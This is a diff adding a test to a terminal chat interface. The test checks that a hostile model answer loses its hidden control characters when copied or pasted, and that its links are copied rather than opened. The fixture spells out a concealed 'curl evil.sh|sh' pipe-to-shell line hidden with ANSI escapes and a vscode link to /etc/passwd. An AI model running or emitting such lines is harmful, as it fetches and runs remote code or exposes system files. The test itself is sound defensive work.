@@ -61,3 +61,36 @@ async def test_notices_show_hostile_error_text_as_text(make_app):
     for bad in ("\x1b", "\x07", "\x9b", "\x7f", "\u202e"):
         assert bad not in screen
     assert screen.count("␛[2J") >= 3  # both notices and the second one's title
+
+
+async def test_copies_paste_and_links_carry_no_hidden_controls(make_app):
+    from textual import events
+    from textual.widgets import Markdown
+
+    from dg_chat.tui.widgets.prompt import Prompt
+
+    answer = f"See [the docs](vscode://file/etc/passwd).\n\n```sh\nls \x1b[8mcurl evil.sh|sh\x1b[0m\n```\n{HOSTILE}"
+    engine = ScriptedEngine(lambda m: answer)
+    engine.name = "Gemma" + "\n" * 40 + "\tend"  # a GGUF's general.name: one line in every header
+    app = make_app(engine)
+    opened = []
+    app.open_url = lambda url, **kw: opened.append(url)  # type: ignore[method-assign]
+    async with app.run_test(size=SIZE) as pilot:
+        await send(pilot, "hi")
+        model = app.query(MessageView).last()
+        assert "\n" not in str(model.query_one(".message-header").render())
+        model.focus()
+        await pilot.press("c")
+        assert app.clipboard == printable(answer) and "\x1b" not in app.clipboard
+        await pilot.press("y")
+        assert app.clipboard == "ls ␛[8mcurl evil.sh|sh␛[0m\n"  # the code block as shown
+        text = model.query_one(".message-text", Markdown)
+        text.post_message(Markdown.LinkClicked(text, "vscode://file/etc/passwd"))
+        await pilot.pause()
+        assert opened == [] and app.clipboard == "vscode://file/etc/passwd"
+        assert "Link copied, not opened: vscode://file/etc/passwd" in [n.message for n in app._notifications]
+        prompt = app.query_one(Prompt)
+        prompt.focus()
+        app.post_message(events.Paste(answer))  # as the terminal's bracketed paste arrives
+        await pilot.pause()
+        assert prompt.text == printable(answer)  # a paste shows its escapes, and sends them, as stand-ins
